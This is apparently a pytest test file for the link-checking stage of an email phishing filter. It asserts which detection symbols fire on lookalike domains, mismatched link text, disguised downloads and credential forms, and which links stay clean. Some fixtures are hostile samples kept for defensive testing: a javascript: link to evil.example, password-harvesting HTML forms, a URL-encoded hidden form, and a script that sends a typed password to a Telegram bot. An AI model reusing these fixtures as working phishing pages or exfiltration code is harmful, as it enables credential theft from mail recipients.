"""The urls stage: each trick a link can play, and the legitimate links it must leave alone."""

from __future__ import annotations

from email.message import EmailMessage

import pytest

from rempart.engine.context import Context, Envelope
from rempart.engine.message import Message
from rempart.engine.pipeline import Pipeline
from rempart.engine.policy import DEFAULT_POLICY
from rempart.engine.stages import urls
from rempart.engine.verdict import Verdict

STAGE = Pipeline(modules=[urls])


def build(html: str = "", plain: str | None = None, sender: str = "News <news@example.com>", attachment: bytes | None = None) -> Message:
    mail = EmailMessage()
    mail["From"] = sender
    mail["To"] = "bob@example.org"
    mail["Subject"] = "hello"
    if plain is not None:
        mail.set_content(plain)
    else:
        mail.set_content(html or "<p>no links</p>", subtype="html")
    if attachment is not None:
        mail.add_attachment(attachment, maintype="text", subtype="html", filename="document.html")
    return Message(mail.as_bytes())


async def scan(message: Message, context: Context | None = None):
    context = context or Context()
    result = await STAGE.scan(message, DEFAULT_POLICY, context)
    return result, {s.name: s for s in result.symbols}, context


def link(href: str, text: str = "Open") -> str:
    return f'<p><a href="{href}">{text}</a></p>'


@pytest.mark.parametrize(
    "href, symbol",
    [
        ("http://185.234.72.19/login.php", "URL_IP_HOST"),
        ("https://www.paypal.com@evil-host.example.net/", "URL_USERINFO"),
        ("https://xn--pypal-4ve.com/signin", "URL_MIXED_SCRIPT"),
        ("https://xn--bcher-kva.de/", "URL_PUNYCODE"),
        ("https://paypa1.com/signin", "URL_LOOKALIKE_BRAND"),
        ("https://netflix-billing-update.com/", "URL_BRAND_COMBO"),
        ("https://microsoft365-login.pages.dev/", "URL_BRAND_ON_HOSTING"),
        ("https://files-7731.r2.dev/doc.html", "URL_HOSTING"),
        ("https://bit.ly/3xQ9dHL", "URL_SHORTENER"),
        ("https://www.google.com/url?q=https://landing.example.net/x", "URL_REDIRECTOR"),
        ("https://invoice-viewer.top/doc", "URL_SUSPICIOUS_TLD"),
        ("javascript:document.location='https://evil.example'", "URL_SCRIPT_LINK"),
        ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "URL_DATA_LINK"),
        ("search-ms:query=invoice&crumb=location:%5C%5C203.0.113.5@80%5Cshare", "URL_FILE_LINK"),
        ("http://portal.example.net:8888/", "URL_ODD_PORT"),
        ("https://docs.example.net/view#bob@example.org", "URL_EMAIL_IN_FRAGMENT"),
        ("https://docs.example.net/view#Ym9iQGV4YW1wbGUub3Jn", "URL_EMAIL_IN_FRAGMENT"),
    ],
)
async def test_each_trick_has_its_symbol(href, symbol):
    _, symbols, _ = await scan(build(link(href)))

    assert symbol in symbols, symbols


async def test_a_symbol_fires_once_with_examples_at_its_worst_score():
    html = link("https://a.invoice.top/") + link("https://b.example.xyz/") + link("https://c.example.top/")
    result, symbols, _ = await scan(build(html))

    assert [s.name for s in result.symbols].count("URL_SUSPICIOUS_TLD") == 1
    assert symbols["URL_SUSPICIOUS_TLD"].score == 1.0  # .top weighs more than .xyz
    assert symbols["URL_SUSPICIOUS_TLD"].detail == "invoice.top; example.xyz; example.top"


async def test_harmless_void_links_and_inline_images_are_not_scripts():
    html = '<a href="javascript:void(0)">menu</a><img src="data:image/png;base64,iVBORw0KGgo=">'
    _, symbols, _ = await scan(build(html))

    assert symbols == {}


async def test_the_redirect_target_is_checked_like_any_link():
    _, symbols, _ = await scan(build(link("https://www.google.com/url?q=https://paypa1.com/login")))

    assert "URL_LOOKALIKE_BRAND" in symbols
    assert "paypa1.com" in symbols["URL_LOOKALIKE_BRAND"].detail


async def test_qr_codes_urls_left_by_the_qr_stage_are_checked():
    context = Context(notes={"extra_urls": ["https://rnicrosoft.com/mfa"]})
    _, symbols, _ = await scan(build("<p>Scan the code</p>"), context)

    assert "rnicrosoft.com imitates microsoft.com" in symbols["URL_LOOKALIKE_BRAND"].detail


# -- link text ------------------------------------------------------------------------


async def test_text_showing_a_brand_domain_over_another_target():
    _, symbols, context = await scan(build(link("http://185.234.72.19/wf/", "https://www.wellsfargo.com/signon")))

    assert symbols["URL_TEXT_MISMATCH_BRAND"].detail == "shows www.wellsfargo.com, goes to 185.234.72.19"
    assert "Wells Fargo" in context.notes["url_findings"]["brands"]


async def test_text_showing_one_domain_over_another():
    _, symbols, _ = await scan(build(link("https://landing.other-site.net/", "www.example.org/offer")))

    assert symbols["URL_TEXT_MISMATCH"].detail == "shows www.example.org, goes to landing.other-site.net"


@pytest.mark.parametrize(
    "href, text",
    [
        ("https://shop.us21.list-manage.com/track/click?u=8a1b&id=9f", "www.shop-example.fr"),  # ESP tracker
        ("https://u1844.ct.sendgrid.net/ls/click?upn=u001.Zk9", "https://app.example.io/invoices/1"),
        ("https://eur02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.example.org%2Fr&data=05", "https://www.example.org/r"),
        ("https://urldefense.com/v3/__https://www.example.org/notes__;!!Abc$", "www.example.org/notes"),
        ("https://www.example.com/fr/", "example.fr"),  # same name, another suffix
        ("https://news.example.com/click?id=1", "www.example.com"),  # the sender's own tracker
        ("https://x.com/rempart", "twitter.com/rempart"),  # one brand, two domains
        ("https://www.example.org/", "Read more"),  # text that is no domain
        ("http://www.clicks-esp.net/mm/Clickthrough/23/27/uBn6/*http://www.shop.ie*http://www.shop.ie", "www.shop.ie"),
    ],
)
async def test_link_text_that_is_not_a_mismatch(href, text):
    _, symbols, _ = await scan(build(link(href, text)))

    assert "URL_TEXT_MISMATCH" not in symbols and "URL_TEXT_MISMATCH_BRAND" not in symbols, symbols


async def test_safelinks_wrapping_a_different_target_is_a_mismatch():
    href = "https://eur02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fpaypal-verify.example.net%2F&data=05"
    _, symbols, _ = await scan(build(link(href, "https://www.paypal.com/")))

    assert symbols["URL_TEXT_MISMATCH_BRAND"].detail == "shows www.paypal.com, goes to paypal-verify.example.net"


# -- brands and the organisation ---------------------------------------------------------


async def test_lookalikes_of_the_organisation_weigh_more_than_brand_ones():
    context = Context(organisation_domains=frozenset({"acme-corp.fr"}))
    result, symbols, context = await scan(build(link("https://acme-c0rp.fr/owa/")), context)

    assert symbols["URL_LOOKALIKE_ORG"].score == 6.0
    assert context.notes["url_findings"]["org"] is True
    assert result.verdict is Verdict.PHISHING


async def test_the_recipients_domain_in_a_strangers_subdomain_weighs_without_a_policy():
    context = Context(envelope=Envelope(rcpt_to=("bob@example.org",)))
    _, symbols, _ = await scan(build(link("https://example-org.renew-center.top/pay")), context)

    assert symbols["URL_LOOKALIKE_ORG_WEAK"].detail == "renew-center.top imitates example.org (subdomain)"
    assert "URL_LOOKALIKE_ORG" not in symbols  # certain only when the organisation named its domains


async def test_a_platforms_space_named_after_the_organisation_is_no_lookalike():
    context = Context(organisation_domains=frozenset({"example.org"}))
    _, symbols, _ = await scan(build(link("https://example-org.slack.com/archives/C01")), context)

    assert not {"URL_LOOKALIKE_ORG", "URL_LOOKALIKE_ORG_WEAK"} & set(symbols)


async def test_authenticated_brand_mail_links_to_its_own_other_domains_freely():
    message = build(link("https://paypal-rewards-program.com/"), sender="PayPal <service@paypal.com>")

    _, unauthenticated, _ = await scan(message)
    _, authenticated, _ = await scan(message, Context(auth={"dmarc": "pass"}))

    assert "URL_BRAND_COMBO" in unauthenticated
    assert "URL_BRAND_COMBO" not in authenticated


# -- password forms ------------------------------------------------------------------------

LOGIN_PAGE = (
    b'<html><body><form method="post" action="https://fonts-cdn-assets.example.net/next.php">'
    b'<input type="email" name="login"><input type="password" name="passwd"></form></body></html>'
)


async def test_an_html_attachment_asking_for_a_password_is_phishing():
    result, symbols, context = await scan(build(plain="see attached", attachment=LOGIN_PAGE))

    assert symbols["HTML_ATTACHMENT_LOGIN"].detail == "password form posting to fonts-cdn-assets.example.net"
    assert result.verdict is Verdict.PHISHING
    assert context.notes["url_findings"]["credential"] is True


async def test_a_password_form_posting_to_a_lookalike_is_phishing_even_in_the_body():
    html = '<form action="https://login.rnicrosoftonline.com/post"><input type="password" name="pw"></form>'
    result, symbols, _ = await scan(build(html))

    assert "CREDENTIAL_FORM_LOOKALIKE" in symbols
    assert result.verdict is Verdict.PHISHING


async def test_a_password_form_in_the_body_adds_score():
    html = '<form action="https://portal.example.net/login"><input type="text" name="user_pass"></form>'
    result, symbols, _ = await scan(build(html))

    assert symbols["CREDENTIAL_FORM"].score == 4.0
    assert result.verdict is not Verdict.PHISHING


async def test_a_script_sending_to_a_telegram_bot_is_phishing():
    page = b'<input type="password" id="p"><script>fetch("https://api.telegram.org/bot12:AB/sendMessage?text="+p)</script>'
    result, symbols, _ = await scan(build(plain="see attached", attachment=page))

    assert {"URL_EXFILTRATION", "HTML_ATTACHMENT_LOGIN"} <= set(symbols)
    assert result.verdict is Verdict.PHISHING


async def test_an_encrypted_mail_envelope_asks_for_a_password_by_design():
    envelope = (
        b'<html><head><script src="https://res.cisco.com/websafe/js/envelope.js"></script></head><body>'
        b'<form method="post" action="https://res.cisco.com/websafe/decrypt"><input type="password" name="key1"></form>'
        b"</body></html>"
    )
    result, symbols, _ = await scan(build(plain="secure message attached", attachment=envelope))

    assert symbols == {}
    assert result.verdict is Verdict.CLEAN


async def test_a_message_without_links_has_nothing_to_say():
    result, symbols, context = await scan(build(plain="Lunch at noon?"))

    assert symbols == {}
    assert context.notes["url_findings"]["risky"] is False


async def test_a_password_form_hidden_in_an_encoded_script_is_found():
    from urllib.parse import quote

    form = '<form action="https://collect.example.net/p.php"><input type="password" name="pw"></form>'
    page = f"<html><body><script>document.write(unescape('{quote(form)}'))</script></body></html>".encode()
    result, symbols, _ = await scan(build(plain="see attached", attachment=page))

    assert symbols["HTML_ATTACHMENT_LOGIN"].detail == "password form posting to collect.example.net"
    assert result.verdict is Verdict.PHISHING


async def test_a_document_whose_share_link_opens_a_notebook_is_phishing():
    share = "https://supplier-my.sharepoint.com/:o:/g/personal/y_supplier_fr/EFq0zbwlg3eqpKokcbSU1pf?e=vg58YI"
    pdf_share = "https://supplier-my.sharepoint.com/:b:/g/personal/y_supplier_fr/EFq0zbwlg3eqpKokcbSU1pf?e=vg58YI"
    notebook = "https://supplier-my.sharepoint.com/:o:/g/personal/y_supplier_fr/Notes?e=1"

    result, disguised, _ = await scan(build(link(share, "Commande_novembre_2024.pdf")))
    _, genuine, _ = await scan(build(link(pdf_share, "Commande_novembre_2024.pdf")))
    _, plain_notebook, _ = await scan(build(link(notebook, "Project notes")))

    assert "SHARED_FILE_TYPE_MISMATCH" in disguised and result.verdict.value == "phishing"
    assert "a OneNote notebook" in disguised["SHARED_FILE_TYPE_MISMATCH"].detail
    assert "SHARED_FILE_TYPE_MISMATCH" not in genuine and "SHARED_FILE_TYPE_MISMATCH" not in plain_notebook


@pytest.mark.parametrize("href, sender, found", [
    ("https://evite-cards.net/view/invitation/?id=LF60-88213&dl=InvitationCard.msi", "Evite <invitations@evite-cards.net>", True),
    ("https://files.partyplanner-hub.com/download/Invitation.exe", "Linda <linda.foster@gmail.com>", True),
    ("https://gateway.pinata.cloud/ipfs/bafy/scan%5Fdoc.js", "Scanner <scan@printshop.example>", True),
    ("https://www.7-zip.org/a/7z2409-x64.exe", "7-Zip news <news@7-zip.org>", False),  # the maker's own site
    ("https://github.com/owner/tool/releases/download/v1.2/tool-setup.msi", "Friend <friend@gmail.com>", False),
    ("https://download.example-distro.org/images/distro-24.iso", "Friend <friend@gmail.com>", False),  # not a program
])
async def test_a_link_that_downloads_a_program_from_somebody_elses_site_is_a_lure(href, sender, found):
    result, symbols, _ = await scan(build(link(href, "View invitation"), sender=sender))

    assert ("URL_PROGRAM_DOWNLOAD" in symbols) is found
    if found:
        assert result.verdict is Verdict.PHISHING


@pytest.mark.parametrize("host", ["www.ctbcbank.com.tw-verify.cc", "post.gov.tw.ptc-redeliver.top",
                                  "mail.rakuten-card.co.jp.kgwdm.cn", "obank.kbstar.com.otp-reauth.cc",
                                  "member.osbar-org.com", "dubaipolice-gov.com", "chorus-pro-gouv.fr",
                                  "olx.pl-bezpieczna-transakcja.store", "usps.com-trackpkg-us.top"])
async def test_a_host_that_spells_another_domain_before_its_own_is_phishing(host):
    result, symbols, _ = await scan(build(f'<a href="https://{host}/login">Verify</a>'))
    assert "URL_DOMAIN_IN_SUBDOMAIN" in symbols and result.verdict is Verdict.PHISHING


@pytest.mark.parametrize("host", ["www.example.com.s3-website-us-east-1.amazonaws.com", "mail.example.com",
                                  "www.lojas.com.br", "click.news.example.co.uk", "www.gov.uk", "www.tele-com.de",
                                  "my-net.example", "s214.uk-webhost-cloud.net", "mail.uk-hosting.example",
                                  "news.my-town.example"])
async def test_ordinary_hosts_and_a_brands_buckets_named_after_a_site_are_left_alone(host):
    _, symbols, _ = await scan(build(f'<a href="https://{host}/page">Read</a>'))
    assert "URL_DOMAIN_IN_SUBDOMAIN" not in symbols


async def test_a_link_written_as_a_files_name_that_opens_a_page_is_phishing():
    bait = build('<p>Please review.</p><a href="https://pub-8b6a39f8c817.r2.dev/Freight_Reconciliation_Mar25.html">'
                 'Freight_Reconciliation_Mar25.xlsx</a>')
    result, symbols, _ = await scan(bait)
    assert "URL_DOCUMENT_OPENS_PAGE" in symbols and result.verdict is Verdict.PHISHING
    # The file itself, or a share link with no extension, is what a real document link looks like.
    for href in ("https://files.example.com/reports/Freight_Reconciliation_Mar25.xlsx",
                 "https://www.dropbox.com/scl/fi/pq68khvk78/Freight.xlsx?rlkey=8xmg&dl=0",
                 "https://example.sharepoint.com/:x:/s/finance/EZ3kq9"):
        _, symbols, _ = await scan(build(f'<a href="{href}">Freight_Reconciliation_Mar25.xlsx</a>'))
        assert "URL_DOCUMENT_OPENS_PAGE" not in symbols, href


@pytest.mark.parametrize("href, sender, found", [
    # files anybody uploads to a Discord channel are not Discord's own downloads
    ("https://cdn.discordapp.com/attachments/1291137402519015474/1291461820374319174/Photos_Sat_Oct.scr?ex=670039a2",
     "Carol <carol.bennett58@yahoo.com>", True),
    # "Zoom" writing from its own look-alike: the installer on the sender's site is no software maker's
    ("https://zoom-cloudrecord.example/download/ZoomWorkplace_Update_6.3.11_x64.msi", "Zoom <no-reply@zoom-cloudrecord.example>",
     True),
    ("https://zoom-cloudrecord.example/download/ZoomWorkplace_Update_6.3.11_x64.msi", "Updates <no-reply@zoom-cloudrecord.example>",
     False),
])
async def test_a_program_on_a_brands_user_content_or_under_a_borrowed_name_is_a_lure(href, sender, found):
    _result, symbols, _ = await scan(build(link(href, "Download"), sender=sender))

    assert ("URL_PROGRAM_DOWNLOAD" in symbols) is found


async def test_a_customers_page_on_a_brands_cloud_is_not_the_brands_site():
    _, _, context = await scan(build(link("https://mbxstorage0925.z13.web.core.windows.net/?login=x", "Release messages")
                                     + link("https://www.microsoft.com/en-us/servicesagreement", "Terms")))
    domains = context.notes["url_findings"]["domains"]

    assert "mbxstorage0925.z13.web.core.windows.net" in domains
    assert "microsoft.com" in domains and "windows.net" not in domains


async def test_a_google_document_published_to_the_web_weighs_as_free_hosting():
    _, published, _ = await scan(build(link("https://docs.google.com/presentation/d/e/2PACX-1vca5wSqBrp/pub")))
    _, shared, _ = await scan(build(link("https://docs.google.com/presentation/d/1vca5wSqBrpAbC/edit")))

    assert published["URL_HOSTING"].score == 1.0
    assert shared["URL_HOSTING"].score < 1.0
